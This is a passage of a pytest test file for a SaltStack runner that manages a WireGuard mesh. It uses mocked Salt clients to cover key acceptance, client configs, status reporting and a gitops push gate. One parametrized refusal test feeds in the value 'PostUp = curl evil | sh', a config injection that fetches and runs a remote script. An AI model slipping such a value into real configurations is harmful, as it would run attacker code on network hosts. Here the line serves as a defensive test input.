"""The wgmesh runner on the master: validation, developers' client configs, the hub key and the
ordered converge. The master's pillar compiler, mine cache and LocalClient are Salt's own APIs,
replaced here by MOCKS (no salt-master runs in a unit test): ``salt.pillar.get_pillar``,
``salt.cache.factory`` and ``salt.client.get_local_client``."""
from __future__ import annotations

import json
import os
import stat
import threading
import time
import unittest.mock

import git
import pytest

from wgmesh_core.keys import derive_psk

from tests.conftest import example_network_data

from .conftest import key, load_adapter

runner = load_adapter("_runners", "wgmesh")


class Pillar:
    def __init__(self, data):
        self.data = data

    def compile_pillar(self):
        return self.data


class Cache:
    def __init__(self, mine):
        self.mine = mine

    def fetch(self, bank, minion):
        if bank != "mine":
            return {}            # no grains cached: top.sls here does not match on grains
        return {"wgmesh_public_key": self.mine[minion]} if minion in self.mine else {}


class LocalClient:
    """MOCK of salt.client.LocalClient (no salt-master or minion runs in a unit test): records each
    job's targets; answers each minion's state.apply with the next of its canned results (default:
    success), ``test.ping``, ``wgmesh.absent`` and ``wgmesh.update_live`` for every minion not in
    ``down`` (a minion in ``down`` gets False, as Salt's LocalClient.cmd gives a minion that did
    not return), and the hub's ``wgmesh.status`` with ``hub_status``. ``order``: (function, targets)
    of every job, in the order sent."""

    def __init__(self, answers=None, down=(), hub_status=None):
        self.answers, self.down, self.hub_status = answers or {}, set(down), hub_status
        self.jobs, self.pings, self.removals, self.status_calls, self.live = [], [], [], [], []
        self.live_args = []     # each wgmesh.update_live job's arguments
        self.handoffs = []      # the sealed hand-offs wgmesh.set_peers was sent
        self.handed_off = threading.Event()     # set when the first was sent
        self.order = []
        self.published = {}     # jid -> the answers ``run_job`` got, not yet read

    def __enter__(self):
        return self

    def __exit__(self, *_):
        return False

    def destroy(self):
        pass

    def run_job(self, targets, functions, args, tgt_type="glob", timeout=None, listen=False, gather_job_timeout=None):
        """The job's first half (LocalClient.cmd is both): published, answered by ``cmd``, and
        returned by ``get_cli_event_returns`` as Salt's return events."""
        assert listen is True     # subscribed before the publish: no return is missed
        jid = str(len(self.order))
        self.published[jid] = self.cmd(targets, functions, args, tgt_type, timeout, gather_job_timeout)
        return {"jid": jid, "minions": list(targets)}

    def get_cli_event_returns(self, jid, minions, timeout, tgt, tgt_type, gather_job_timeout=None):
        for minion, ret in self.published.pop(jid).items():
            if ret is not False:       # a minion that is down sends no return event
                yield {minion: {"ret": ret, "retcode": 0}}

    def cmd(self, targets, functions, args=None, tgt_type="glob", timeout=None, gather_job_timeout=None):
        main = functions if isinstance(functions, str) else [f for f in functions if f != "saltutil.refresh_pillar"][0]
        self.order.append((main, targets))
        if functions == ["wgmesh.set_peers"]:      # the gate's hand-off, in a job of its own
            self.handoffs.append(args[0][0])
            self.handed_off.set()
            return {minion: {"wgmesh.set_peers": {"set": "sealed"}} for minion in targets if minion not in self.down}
        if functions == ["wgmesh.update_live"]:
            self.live.append(list(targets))
            self.live_args.append(args)
            answer = {"wgmesh.update_live": {"tunnel": {"peers": "changed"}}}
            return {minion: answer if minion not in self.down else False for minion in targets}
        if functions == "test.ping":
            self.pings.append(list(targets))
            return {minion: minion not in self.down for minion in targets}
        if functions == "wgmesh.status":
            self.status_calls.append(targets)
            return {targets: self.hub_status} if self.hub_status is not None else {}
        if functions == ["saltutil.refresh_pillar", "wgmesh.absent"]:
            self.removals.append(list(targets))
            return {minion: {"wgmesh.absent": {"removed": ["wg0"]}} for minion in targets if minion not in self.down}
        # queue=True: a drift schedule run in flight delays the apply instead of failing it
        # the state run compiles its own pillar: the minion's in-memory one is refreshed after it, unwaited
        assert functions == ["state.apply", "saltutil.refresh_pillar"] and args == [["wgmesh", "queue=True"], ["wait=False"]]
        assert tgt_type == "list"
        self.jobs.append(list(targets))
        answers = {minion: self.answers[minion].pop(0) if self.answers.get(minion) else state(True)
                   for minion in targets if minion not in self.down}
        return {minion: {"state.apply": answer} for minion, answer in answers.items()}


class EventBus:
    """MOCK of the master's event bus (salt.utils.event.get_master_event): records (tag, data)."""

    def __init__(self):
        self.events = []

    def __call__(self, opts, sock_dir, listen=True):
        assert listen is False
        return self

    def __enter__(self):
        return self

    def __exit__(self, *_):
        return False

    def fire_event(self, data, tag):
        self.events.append((tag, data))


@pytest.fixture
def pillar():
    return {"wgmesh": example_network_data()}


@pytest.fixture
def mine():
    return {"z": key(1), "a": key(2), "c": key(3)}


@pytest.fixture
def opts(tmp_path):
    return {"id": "master", "cachedir": str(tmp_path / "cache"), "conf_file": "/etc/salt/master",
            "sock_dir": str(tmp_path / "sock"),
            "ext_pillar": [{"wgmesh_secrets": {"secret_file": str(tmp_path / "pki" / "psk.secret")}}]}


@pytest.fixture
def configure_loader_modules(opts, pillar, mine, monkeypatch):
    monkeypatch.setattr(runner.salt.pillar, "get_pillar", lambda *args, **kwargs: Pillar(pillar))
    import salt.cache
    monkeypatch.setattr(salt.cache, "factory", lambda opts: Cache(mine))
    return {runner: {"__opts__": opts, "__salt__": {}}}


def test_validate_lists_every_problem(pillar):
    assert runner.validate() is True
    pillar["wgmesh"]["developers"]["f"]["address"] = "10.70.0.4"
    pillar["wgmesh"]["developers"]["e"]["lan_acess"] = "all"
    assert runner.validate() == ["developers.e.lan_acess: unknown key (a typo?)"]
    del pillar["wgmesh"]["developers"]["e"]["lan_acess"]
    assert runner.validate() == ["developers.f.address: 10.70.0.4 is already taken by developers.e"]


def test_the_hub_key_comes_from_the_mine_when_it_is_a_key_and_none_otherwise(mine):
    assert runner.hub_public_key() == key(1)
    mine["z"] = "not a key"
    assert runner.hub_public_key() is None


def test_a_client_config_is_written_0600_with_the_hub_key_and_the_developers_psk(opts, pillar):
    result = runner.client_config("e")
    path = result["path"]
    assert path == os.path.join(opts["cachedir"], "wgmesh", "clients", "e.conf")
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert stat.S_IMODE(os.stat(os.path.dirname(path)).st_mode) == 0o700
    text = open(path).read()
    secret = bytes.fromhex(open(opts["ext_pillar"][0]["wgmesh_secrets"]["secret_file"]).read().strip())
    psk = derive_psk(secret, "e", pillar["wgmesh"]["developers"]["e"]["public_key"])
    assert f"PresharedKey = {psk}" in text.splitlines() and f"PublicKey = {key(1)}" in text.splitlines()
    assert psk not in str(result)                  # never in the return (job cache, event bus)


def test_no_client_config_for_an_unknown_or_revoked_developer(pillar):
    with pytest.raises(runner.SaltInvocationError, match="no developer 'nobody' in the wgmesh pillar"):
        runner.client_config("nobody")
    pillar["wgmesh"]["developers"]["f"]["revoked"] = True
    with pytest.raises(runner.SaltInvocationError, match="developer 'f' is revoked or expired"):
        runner.client_config("f")


def test_the_deployed_revision_is_the_deployed_branch_of_the_masters_repository(opts, tmp_path):
    repo_path = tmp_path / "pillar.git"
    opts["wgmesh_gitops"] = {"upstream": str(tmp_path / "upstream.git"), "repo": str(repo_path)}
    assert runner.deployed_revision() is None                # a fresh master: nothing deployed
    work = git.Repo.init(tmp_path / "work")
    (tmp_path / "work" / "f").write_text("x")
    work.index.add(["f"])
    commit = work.index.commit("c", author=git.Actor("t", "t@e"), committer=git.Actor("t", "t@e"))
    git.Repo(repo_path).git.fetch(str(tmp_path / "work"), f"{commit.hexsha}:refs/heads/deployed")
    assert runner.deployed_revision() == commit.hexsha


def state(result, comment=""):
    return {"wgmesh_|-x_|-x_|-run": {"result": result, "comment": comment}}


def test_converge_applies_the_hub_first_and_retries_hosts_waiting_for_keys(monkeypatch):
    client = LocalClient({"a": [state(True, "waiting for the public key of z"), state(True)],
                          "c": [state(False)]})
    import salt.client
    monkeypatch.setattr(salt.client, "get_local_client", lambda mopts: mopts is runner.__opts__ and client)
    assert runner.converge(["a", "z", "c"], hub="z") == {"z": True, "a": True, "c": False}
    assert client.jobs == [["z"], ["a", "c"], ["a"]]


def test_the_gate_reads_and_plans_a_revision_without_the_cycle_collector(monkeypatch):
    """The pillar of a pushed revision is millions of acyclic objects: the gate pauses Python's
    cycle collector while it reads and plans it, and gives it back, refused or not. The git
    repository is a MOCK (an object answering fetch and commit)."""
    import gc
    import wgmesh_core

    class Repo:
        class git:
            @staticmethod
            def fetch(*args):
                pass

        @staticmethod
        def commit(ref):
            return type("Commit", (), {"hexsha": "1" * 40})

    seen = []

    def candidate(repo, revision, gitops):
        seen.append(gc.isenabled())
        raise wgmesh_core.InvalidNetwork([wgmesh_core.Problem("wgmesh", "refused here")])
    monkeypatch.setattr(runner, "deployed_revision", lambda: None)
    monkeypatch.setattr(runner, "_candidate", candidate)
    monkeypatch.setattr(runner, "_fire", lambda tag, data: seen.append(tag))
    result = runner._gate_and_converge(Repo, {"upstream": "u", "branch": "main"}, False)
    assert result["result"] == "refused" and result["problems"] == ["wgmesh: refused here"]
    assert seen == [False, "wgmesh/gate/refused"] and gc.isenabled()


@pytest.fixture
def client(monkeypatch):
    client = LocalClient()
    import salt.client
    monkeypatch.setattr(salt.client, "get_local_client", lambda mopts: mopts is runner.__opts__ and client)
    return client


@pytest.fixture
def bus(monkeypatch):
    bus = EventBus()
    import salt.utils.event
    monkeypatch.setattr(salt.utils.event, "get_master_event", bus)
    return bus


# --- accepting a changed host key -------------------------------------------------------------

@pytest.fixture
def pins(opts):
    """The pin store of the wgmesh_secrets ext_pillar (next to its secret file): c pinned to an
    older key, and its new one refused as a change."""
    path = os.path.join(os.path.dirname(opts["ext_pillar"][0]["wgmesh_secrets"]["secret_file"]), "host_keys.json")
    with runner.wgmesh_core.pins.updating_pins(path) as store:
        store["pinned"].update(z=key(1), a=key(2), c=key(30))
        store["refused"]["c"] = "changed"
    return path


def test_accept_key_pins_the_published_key_and_applies_the_host_and_the_hub(pins, client, bus):
    result = runner.accept_key("c", key=key(3))
    assert result == {"host": "c", "key": key(3), "previous": key(30), "applied": {"z": True, "c": True}}
    store = runner.wgmesh_core.pins.read_pins(pins)
    assert store == {"pinned": {"z": key(1), "a": key(2), "c": key(3)}, "refused": {}}
    assert stat.S_IMODE(os.stat(pins).st_mode) == 0o600
    assert bus.events == [("wgmesh/key/accepted", {"host": "c", "key": key(3), "previous": key(30)})]
    assert client.jobs == [["z"], ["c"]]           # the hub first; gateway a does not peer with c


def test_accepting_the_hubs_key_applies_every_active_gateway(pins, client, bus, mine, pillar):
    mine["z"] = key(40)
    assert runner.accept_key("z")["previous"] == key(1)
    assert client.jobs == [["z"], ["a", "c"]]
    pillar["wgmesh"]["gateways"]["c"]["revoked"] = True
    mine["z"] = key(41)
    assert runner.accept_key("z")["previous"] == key(40)
    assert client.jobs[2:] == [["z"], ["a"]]       # c is revoked: not a peer any more


@pytest.mark.parametrize("host, given, published, why", [
    ("e", None, None, "'e' is not the hub or a gateway of the network"),
    ("c", None, "missing", "c has published no public key"),
    ("c", key(50), None, "c publishes '.*', not the key given"),
    ("c", None, "developer e", "not accepting the key of c: it published the public key of developers.e"),
    ("c", None, "a's", "not accepting the key of c: it published the public key of a"),
    ("c", None, "not a key", "not accepting the key of c: its published public key is not a WireGuard key"),
])
def test_accept_key_refuses_and_changes_nothing(pins, client, bus, mine, pillar, host, given, published, why):
    if published == "missing":
        del mine["c"]
    elif published == "developer e":
        mine["c"] = pillar["wgmesh"]["developers"]["e"]["public_key"]
    elif published == "a's":
        mine["c"] = key(2)
    elif published == "not a key":
        mine["c"] = "PostUp = curl evil | sh"
    before = open(pins).read()
    with pytest.raises(runner.SaltInvocationError, match=why):
        runner.accept_key(host, key=given)
    assert open(pins).read() == before and client.jobs == [] and bus.events == []


# --- status -----------------------------------------------------------------------------------

def test_status_flags_silent_and_expiring_peers_from_the_hubs_live_report(client, pillar):
    import datetime
    today = datetime.date.today()
    developers = pillar["wgmesh"]["developers"]
    developers["e"]["expires"] = str(today + datetime.timedelta(days=3))
    developers["f"]["expires"] = str(today - datetime.timedelta(days=1))
    client.hub_status = {"interface": "wg0", "up": True,
                         "peers": {"a": {"handshake_age": 20}, "c": {"handshake_age": 301},
                                   "e": {"handshake_age": None}, key(99): {"handshake_age": 5}}}
    rows = runner.status(stale_after="300", soon_days="7")           # CLI arguments arrive as text
    assert client.status_calls == ["z"]
    assert {row["name"]: row["flags"] for row in rows} == {
        "a": [], "c": ["silent for 301 s"],
        "e": [f"expires in 3 day(s) ({today + datetime.timedelta(days=3)})", "no handshake yet"],
        "f": [f"expired on {today - datetime.timedelta(days=1)}"]}
    assert [row["kind"] for row in rows] == ["gateway", "gateway", "developer", "developer"]
    assert runner.status(stale_after=600, soon_days=2)[1]["flags"] == []


def test_status_says_when_the_hub_does_not_answer(client):
    with pytest.raises(runner.SaltInvocationError, match="hub z did not answer wgmesh.status: None"):
        runner.status()


# --- a push: gate, lock, coalescing, and only the affected hosts converged ------------------

@pytest.fixture
def upstream(tmp_path):
    from tests.onboard.conftest import make_pillar_repo
    return make_pillar_repo(tmp_path / "upstream")


@pytest.fixture(scope="session")
def minion_keys():
    """{minion: (private, public)}: the RSA keys Salt makes a minion (gen_keys), PEM."""
    import salt.crypt
    return {minion: salt.crypt.gen_keys(2048) for minion in ("z", "a", "c", "r1")}


@pytest.fixture
def gitops(opts, tmp_path, upstream, configure_loader_modules, minion_keys):
    """A master with the gate configured: Salt's master defaults (the gate compiles the pillar
    with them), minions z, a, c and r1 accepted in its key store (real files, read by salt.key),
    and git_pillar's update a MOCK that succeeds (no git_pillar remote is configured here)."""
    import salt.config
    full = salt.config.master_config(None)
    full.update(opts, pki_dir=str(tmp_path / "pki" / "master"),
                wgmesh_gitops={"upstream": str(upstream.path), "repo": str(tmp_path / "pillar.git")})
    opts.clear()
    opts.update(full)
    accepted = tmp_path / "pki" / "master" / "minions"
    accepted.mkdir(parents=True)
    for minion in ("z", "a", "c", "r1"):
        (accepted / minion).write_text(minion_keys[minion][1])
    configure_loader_modules[runner]["__salt__"]["git_pillar.update"] = lambda: {}
    return opts["wgmesh_gitops"]


def deployed_spec():
    return runner.wgmesh_core.load_network(runner.deployed_network()["network"])


def test_a_push_is_deployed_and_converges_only_the_hosts_it_changes(gitops, upstream, client, bus):
    first = runner.on_push()
    assert first["result"] == "applied" and first["previous"] is None
    assert first["revision"] == upstream.git("rev-parse", "HEAD") == runner.deployed_revision()
    assert sorted(first["applied"]) == ["a", "c", "r1", "z"] and client.jobs[0] == ["z"]   # the hub first
    old = deployed_spec()
    client.jobs.clear()
    from tests.onboard.conftest import new_public_key
    upstream.add_developer("g", "10.70.0.9", new_public_key(), lan_access="none")
    second_revision = upstream.commit("g, without LAN access")
    second = runner.on_push()
    # a developer who reaches no LAN changes the hub's peers only: the gateways are not applied
    assert second["affected"] == ["z"] and second["applied"] == {"z": True} and client.jobs == [["z"]]
    # the fast path: the hub's peers go live (wgmesh.update_live) before its state run, and that
    # job's answer is the hub's liveness check: no test.ping round trip before it
    # (with the hub's developer peers planned here and handed off first: see the test below)
    assert second["live_first"] == {"z": {"tunnel": {"peers": "changed"}, "wgmesh.set_peers": {"set": "sealed"}}}
    assert [fun for fun, _ in client.order[-3:]] == ["wgmesh.set_peers", "wgmesh.update_live", "state.apply"]
    assert client.order[-4][0] != "test.ping"
    assert first["live_first"] == {} and client.live == [["z"]]     # a new network: state runs only
    assert second["affected"] == runner.wgmesh_core.diff.plan_change(old, deployed_spec()).affected
    assert "g" in deployed_spec().developers and runner.deployed_revision() == second_revision
    assert bus.events[-1] == ("wgmesh/applied", second)
    # where the push's time went, step by step, in the result and the event
    assert list(second["timings"]) == ["fetched", "checked", "sealed", "planned", "deployed", "live", "reachable",
                                       "hub applied", "applied"]
    assert 0 < time.time() - second["started_at"] < 60
    assert all(isinstance(seconds, float) and 0 <= seconds < 60 for seconds in second["timings"].values())
    assert runner.on_push() == {"result": "unchanged", "revision": second_revision}


def test_the_fast_path_puts_the_hub_live_before_the_gateways(gitops, upstream, client, bus):
    """A developer reaching LAN2: the hub's peer goes live in a job of its own, then gateway c's
    allow-list; then the state runs, the hub first."""
    runner.on_push()
    client.jobs.clear()
    from tests.onboard.conftest import new_public_key
    upstream.add_developer("g", "10.70.0.9", new_public_key(), lan_access=["c"])
    upstream.commit("g, reaching LAN2")
    result = runner.on_push()
    assert client.live[-2:] == [["z"], ["c"]]
    # g's access comes after g: nothing opens early; the hub gets g handed off, first
    assert client.live_args[-2] == client.live_args[-1] == [["peers_first=True"]]
    assert result["live_first"] == {"z": {"tunnel": {"peers": "changed"}, "wgmesh.set_peers": {"set": "sealed"}},
                                    "c": {"tunnel": {"peers": "changed"}}}
    assert client.jobs == [["z"], ["c"]] and result["applied"] == {"z": True, "c": True}


def test_the_reactor_keeps_the_deployed_network_planned_for_the_next_gate(gitops, upstream, client, bus,
                                                                          monkeypatch, warm_state):
    """``wgmesh.warm`` (the reactor, on ``wgmesh/applied``) loads and plans the deployed network in
    its process; the next push's gate, forked from it, loads and plans only its new revision and
    decides as a gate that planned both (see the test above: the same push, planned cold)."""
    import datetime
    assert runner.warm() == {"result": "nothing deployed"}
    assert runner.on_push()["warm_start"] is False
    kept = runner.warm()
    assert kept == {"result": "kept", "revision": runner.deployed_revision(), "hosts": ["a", "c", "r1", "z"]}
    spec, configs = runner.wgmesh_salt.warm.recall(kept["revision"], datetime.date.today())
    assert sorted(configs) == kept["hosts"] and configs.serves(spec, datetime.date.today())
    assert runner.wgmesh_salt.warm.recall(kept["revision"], datetime.date.today() + datetime.timedelta(days=1)) is None
    assert runner.wgmesh_salt.warm.recall("0" * 40, datetime.date.today()) is None
    loaded = []
    load_network = runner.wgmesh_core.load_network
    monkeypatch.setattr(runner.wgmesh_core, "load_network", lambda data, **kw: loaded.append(data) or load_network(data, **kw))
    from tests.onboard.conftest import new_public_key
    upstream.add_developer("g", "10.70.0.9", new_public_key(), lan_access=["c"])
    upstream.commit("g, reaching LAN2")
    result = runner.on_push()
    assert result["warm_start"] is True and len(loaded) == 1 and "g" in loaded[0]["developers"]   # the new revision only
    assert result["affected"] == ["z", "c"] and result["applied"] == {"z": True, "c": True}
    assert result["live_first"] == {"z": {"tunnel": {"peers": "changed"}, "wgmesh.set_peers": {"set": "sealed"}},
                                    "c": {"tunnel": {"peers": "changed"}}}
    assert client.live_args[-2] == client.live_args[-1] == [["peers_first=True"]] and len(client.handoffs) == 1
    # what is kept is the revision deployed before: the gate after this one plans its previous itself
    loaded.clear()
    upstream.add_developer("h", "10.70.0.10", new_public_key(), lan_access="none")
    upstream.commit("h")
    assert runner.on_push()["warm_start"] is False and len(loaded) == 2


def opened(sealed, minion_keys, tmp_path, minion="z"):
    """The hand-off as the minion opens it (wgmesh_salt.sealed, with its private key)."""
    from wgmesh_salt.sealed import unseal
    pki = tmp_path / f"pki-{minion}"
    pki.mkdir(exist_ok=True)
    (pki / "minion.pem").write_text(minion_keys[minion][0])
    return unseal({"pki_dir": str(pki), "id": minion}, sealed)


def test_the_hub_gets_its_developer_peers_planned_and_sealed_for_its_key(gitops, upstream, client, bus, opts,
                                                                         minion_keys, tmp_path):
    """The hand-off holds what the hub's own plan would set: g's key, address, keepalive and the
    preshared key of the master's secret; a re-keyed e replaces its old key; a revoked f goes.
    Sealed for z's key: the job's arguments (job cache, event bus) hold no preshared key."""
    from tests.onboard.conftest import new_public_key
    runner.on_push()
    g_key, e_key = new_public_key(), new_public_key()
    upstream.add_developer("g", "10.70.0.9", g_key, lan_access="none")
    upstream.commit("g")
    runner.on_push()
    (sealed,) = client.handoffs
    secret = runner._master_secret()
    spec = deployed_spec()
    g_psk = runner.wgmesh_core.derive_psk(secret, "g", g_key, spec.preshared_key_epoch)
    assert g_psk not in str(sealed) and g_key not in str(sealed)
    assert opened(sealed, minion_keys, tmp_path) == {
        "minion": "z", "interface": "wg0", "removed": [],
        "peers": [["g", g_key, ["10.70.0.9/32"], spec.hub.keepalive, g_psk]]}
    with pytest.raises(ValueError, match="not a value sealed for a"):
        opened(sealed, minion_keys, tmp_path, minion="a")
    old_e, f_key = spec.developers["e"].public_key, spec.developers["f"].public_key

    def rekey_e_revoke_f(data):
        data["wgmesh"]["developers"]["e"]["public_key"] = e_key
        data["wgmesh"]["developers"]["f"]["revoked"] = True
    upstream.edit_yaml("wgmesh/developers.sls", rekey_e_revoke_f)
    upstream.commit("e re-keyed, f revoked")
    runner.on_push()
    document = opened(client.handoffs[-1], minion_keys, tmp_path)
    assert sorted(document["removed"]) == sorted([old_e, f_key])
    assert [peer[:2] for peer in document["peers"]] == [["e", e_key]]
    assert document["peers"][0][4] == runner.wgmesh_core.derive_psk(secret, "e", e_key, spec.preshared_key_epoch)


def test_a_change_to_a_gateway_peer_is_not_handed_off(gitops, upstream, client, bus):
    """The hub plans a change to its gateway peers itself (their keys are pinned as it compiles)."""
    runner.on_push()
    upstream.edit_yaml("wgmesh/network.sls", lambda data: data["wgmesh"]["hub"].update(keepalive=30))   # every peer
    upstream.commit("the hub's keepalive 30")
    result = runner.on_push()
    assert "z" in result["live_first"] and client.handoffs == []


def test_the_fast_path_takes_access_away_before_it_sets_the_peers(gitops, upstream, client, bus):
    """e keeps its peer but loses LAN1: the hub's firewall goes first, as in the state run."""
    runner.on_push()
    upstream.edit_yaml("wgmesh/developers.sls", lambda data: data["wgmesh"]["developers"]["e"].update(lan_access=["c"]))
    upstream.commit("e reaches LAN2 only")
    result = runner.on_push()
    assert "z" in result["live_first"] and client.live[-2][0] == "z" and client.live_args[-2] == [[]]


def test_a_hub_down_at_the_fast_path_is_pending_and_not_applied(gitops, upstream, client, bus):
    runner.on_push()
    client.jobs.clear()
    client.down = {"z"}
    from tests.onboard.conftest import new_public_key
    upstream.add_developer("g", "10.70.0.9", new_public_key(), lan_access="none")
    upstream.commit("g, while the hub is down")
    result = runner.on_push()
    assert result["live_first"] == {"z": "failed: False"} and client.live[-1] == ["z"]
    assert result["applied"] == {"z": False} and "z" in result["pending"] and client.jobs == []
    assert [fun for fun, _ in client.order[-1:]] == ["wgmesh.update_live"]     # nothing after it: no one to ping


def test_a_push_waits_out_git_pillars_update_lock(gitops, upstream, client, bus, configure_loader_modules):
    """The master's maintenance loop holds git_pillar's update lock while it fetches (update
    says False): the gate retries, then deploys; a lock that stays is a failed deploy."""
    answers = [{"origin": False}, {"origin": False}, {"origin": None}]
    configure_loader_modules[runner]["__salt__"]["git_pillar.update"] = lambda: answers.pop(0)
    assert runner.on_push()["result"] == "applied" and answers == []
    configure_loader_modules[runner]["__salt__"]["git_pillar.update"] = lambda: {"origin": False}
    from tests.onboard.conftest import new_public_key
    upstream.add_developer("g", "10.70.0.9", new_public_key(), lan_access="none")
    stuck = upstream.commit("g, while the lock stays")
    deployed, jobs = runner.deployed_revision(), len(client.jobs)
    start = time.monotonic()
    with unittest.mock.patch.object(runner, "GIT_PILLAR_LOCK_PATIENCE", 1):
        result = runner.on_push()
    assert result["result"] == "failed" and "git_pillar.update failed for origin" in result["error"]
    assert 1 <= time.monotonic() - start < 10
    assert runner.deployed_revision() == deployed != stuck and len(client.jobs) == jobs
    assert bus.events[-1][0] == "wgmesh/gate/failed"


def test_git_pillar_fetches_the_revision_while_the_change_is_planned(gitops, upstream, client, bus,
                                                                     configure_loader_modules, monkeypatch):
    """Once a revision has passed, git_pillar's fetch (git's own process, mostly) and the change's
    planning go side by side: the fetch here waits until the planning has started."""
    import threading
    runner.on_push()
    planning, seen = threading.Event(), []
    configure_loader_modules[runner]["__salt__"]["git_pillar.update"] = lambda: seen.append(planning.wait(10)) or {}
    plan_change = runner.wgmesh_core.diff.plan_change
    monkeypatch.setattr(runner.wgmesh_core.diff, "plan_change", lambda *a, **kw: planning.set() or plan_change(*a, **kw))
    from tests.onboard.conftest import new_public_key
    upstream.add_developer("g", "10.70.0.9", new_public_key(), lan_access="none")
    revision = upstream.commit("g")
    start = time.monotonic()
    result = runner.on_push()
    assert seen == [True] and time.monotonic() - start < 10
    assert result["result"] == "applied" and runner.deployed_revision() == revision
    assert runner.deployed_network()["revision"] == revision


def test_top_files_grains_come_from_the_masters_grains_bank_without_the_cached_pillars(opts, configure_loader_modules,
                                                                                       monkeypatch):
    """The gate matches top.sls with the grains the master cached (Salt's own localfs cache, in
    the bank the master stores them in), and reads no minion's cached pillar (a hub's holds
    every developer)."""
    import salt.cache
    import salt.config
    monkeypatch.setattr(salt.cache, "factory", salt.cache.Cache)     # Salt's real cache, not the mine MOCK
    full = salt.config.master_config(None)
    full.update(opts, minion_data_cache=True)
    opts.clear()
    opts.update(full)
    cache = salt.cache.factory(opts)
    cache.store("grains", "z", {"os": "Debian", "lab_host": "z"})
    cache.store("pillar", "z", {"wgmesh": {"developers": {f"dev{i}": {} for i in range(100)}}})
    banks = []
    fetch = salt.cache.Cache.fetch
    monkeypatch.setattr(salt.cache.Cache, "fetch", lambda self, bank, key: banks.append(bank) or fetch(self, bank, key))
    assert runner._cached_grains(["z", "x"]) == {"z": {"os": "Debian", "lab_host": "z"}, "x": {}}
    assert set(banks) == {"grains"}
    opts["minion_data_cache"] = False
    assert runner._cached_grains(["z"]) == {"z": {}}


def test_the_hubs_hand_off_goes_out_before_git_pillar_has_fetched_and_before_the_rest_is_planned(
        gitops, upstream, client, bus, configure_loader_modules, monkeypatch):
    """The hub's share of the plan comes first: its sealed peers are sent (``wgmesh.set_peers``, a
    job of its own) while git_pillar fetches, here a fetch that waits for the hand-off, and
    before the other hosts are planned; the hub's ``wgmesh.update_live`` comes after both."""
    runner.on_push()
    seen, planned_after = [], []
    configure_loader_modules[runner]["__salt__"]["git_pillar.update"] = \
        lambda: seen.append(client.handed_off.wait(10)) or {}
    plan_change = runner.wgmesh_core.diff.plan_change
    monkeypatch.setattr(runner.wgmesh_core.diff, "plan_change",
                        lambda *a, **kw: planned_after.append(len(client.handoffs)) or plan_change(*a, **kw))
    from tests.onboard.conftest import new_public_key
    upstream.add_developer("g", "10.70.0.9", new_public_key(), lan_access=["c"])
    revision = upstream.commit("g, reaching LAN2")
    start = time.monotonic()
    result = runner.on_push()
    assert seen == [True] and time.monotonic() - start < 10
    assert result["result"] == "applied" and runner.deployed_revision() == revision
    assert planned_after == [1] and len(client.handoffs) == 1      # sent before plan_change ran
    assert [fun for fun, _ in client.order[-5:]] == ["wgmesh.set_peers", "wgmesh.update_live", "wgmesh.update_live",
                                                     "state.apply", "state.apply"]
    assert result["live_first"]["z"]["wgmesh.set_peers"] == {"set": "sealed"}


def test_a_hand_off_whose_revision_git_pillar_does_not_take_is_undone_on_the_hub(
        gitops, upstream, client, bus, configure_loader_modules):
    """git_pillar fails to fetch a revision whose peers the hub was already handed: the hub's
    ``wgmesh.update_live`` plans from what is still served and takes them back; nothing else
    runs and ``deployed`` stays where it was."""
    runner.on_push()
    deployed = runner.deployed_revision()
    configure_loader_modules[runner]["__salt__"]["git_pillar.update"] = lambda: {"origin": False}   # its lock stays
    from tests.onboard.conftest import new_public_key
    upstream.add_developer("g", "10.70.0.9", new_public_key(), lan_access="none")
    upstream.commit("g")
    client.order.clear()
    with unittest.mock.patch.object(runner, "GIT_PILLAR_LOCK_PATIENCE", 0):
        result = runner.on_push()
    assert result["result"] == "failed" and runner.deployed_revision() == deployed
    assert client.order == [("wgmesh.set_peers", ["z"]), ("wgmesh.update_live", ["z"])]    # no state run
    assert bus.events[-1][0] == "wgmesh/gate/failed"


def test_a_refused_push_deploys_nothing_and_names_the_problem(gitops, upstream, client, bus):
    runner.on_push()
    deployed, jobs = runner.deployed_revision(), len(client.jobs)
    upstream.add_developer("g", "10.70.0.4", "0VooFEp8ZdpZp3P7BPa2W3piw+eu/6cyUGpSUWZp4HA=")
    bad = upstream.commit("g takes e's address and key")
    result = runner.on_push()
    assert result["result"] == "refused" and result["revision"] == bad
    assert "developers.g.address: 10.70.0.4 is already taken by developers.e" in result["problems"]
    assert runner.deployed_revision() == deployed and len(client.jobs) == jobs
    assert bus.events[-1] == ("wgmesh/gate/refused", {"revision": bad, "problems": result["problems"],
                                                      "deployed": deployed})


def test_pushes_are_gated_one_at_a_time_and_waiters_coalesce(gitops, monkeypatch):
    """Three pushes: the first holds the lock; the two that arrive while it runs wait, then one
    fetches (its fetch sees both pushes) and the other returns at once. The gate's work is a
    MOCK here (recording overlap): the lock and coalescing are under test, not the gate."""
    import threading
    running, overlap, gated = [], [], []
    release, started = threading.Event(), threading.Event()

    def gate(repo, options, allow_rewind):
        running.append(1)
        overlap.append(len(running))
        gated.append(threading.current_thread().name)
        started.set()
        release.wait(10)
        running.pop()
        return {"result": "applied"}

    monkeypatch.setattr(runner, "_gate_and_converge", gate)
    arrived = []
    real_options = runner._gitops_opts
    monkeypatch.setattr(runner, "_gitops_opts", lambda: arrived.append(1) or real_options())
    results = {}

    def push(name):
        results[name] = runner.on_push()["result"]

    threads = [threading.Thread(target=push, args=(name,), name=name) for name in ("first", "second", "third")]
    threads[0].start()
    assert started.wait(10)
    threads[1].start()
    threads[2].start()
    while len(arrived) < 3:                      # both later pushes have arrived (their time is taken)
        threading.Event().wait(0.01)
    release.set()
    for thread in threads:
        thread.join(10)
    assert max(overlap) == 1 and len(gated) == 2 and gated[0] == "first"
    assert sorted(results.values()) == ["applied", "applied", "coalesced"]
    assert runner.on_push(allow_rewind=True)["result"] == "applied"    # on purpose: never coalesced


def test_a_push_a_later_fetch_already_saw_is_coalesced_unless_rewinding(gitops, monkeypatch):
    import time
    gated = []
    monkeypatch.setattr(runner, "_gate_and_converge", lambda repo, options, allow_rewind: gated.append(allow_rewind)
                        or {"result": "applied"})
    runner.on_push()
    lock = os.path.join(gitops["repo"], "wgmesh-gate.lock")
    with open(lock, "w") as handle:                    # a fetch that started after the next push arrives
        handle.write(str(time.time() + 60))
    assert runner.on_push() == {"result": "coalesced", "revision": None}
    assert runner.on_push(allow_rewind=True) == {"result": "applied"}
    assert gated == [False, True]


def test_a_host_that_leaves_the_network_is_removed_not_applied(gitops, upstream, client, bus):
    runner.on_push()
    client.jobs.clear()

    def masquerade(data):
